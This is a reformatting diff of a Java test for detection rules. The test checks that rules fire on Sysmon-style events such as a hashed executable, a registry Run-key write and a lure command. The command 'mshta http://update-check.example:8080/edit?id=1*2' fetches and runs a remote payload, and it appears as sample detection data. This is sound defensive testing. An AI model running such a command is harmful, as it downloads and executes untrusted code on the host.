@@ -61,15 +61,14 @@ class CaseRulesTest {
                     "program-run",
                     event("1", "Image", "C:\\x\\y.exe", "Hashes", "MD5=00,SHA256=" + SHA256.toUpperCase())),
             argumentSet("program run by name", "program-run", event("1", "Image", "C:\\x\\winsvc.exe")),
-            argumentSet("value set", "registry-value-set", event("13", "EventType", "SetValue", "TargetObject", RUN_KEY)),
+            argumentSet(
+                    "value set", "registry-value-set", event("13", "EventType", "SetValue", "TargetObject", RUN_KEY)),
             argumentSet("lure's command", "lure-command", run("mshta  http://update-check.example:8080/edit?id=1*2")));
 
     @ParameterizedTest
     @FieldSource("FIRING")
     void firesOnWhatItWasMadeOf(String rule, Event event) {
-        assertThat(rules(INDICATORS, event))
-                .extracting(CaseRule::file)
-                .contains("as-0123456789-" + rule + ".yml");
+        assertThat(rules(INDICATORS, event)).extracting(CaseRule::file).contains("as-0123456789-" + rule + ".yml");
     }
 
     @Test
@@ -156,6 +155,15 @@ class CaseRulesTest {
 
     private static Indicator indicator(String id, Indicator.Kind kind, String value, Indicator.Role role) {
         return new Indicator(
-                id, kind, value, role, Optional.empty(), Optional.empty(), Confidence.MODERATE, List.of(), List.of(), true);
+                id,
+                kind,
+                value,
+                role,
+                Optional.empty(),
+                Optional.empty(),
+                Confidence.MODERATE,
+                List.of(),
+                List.of(),
+                true);
     }
 }
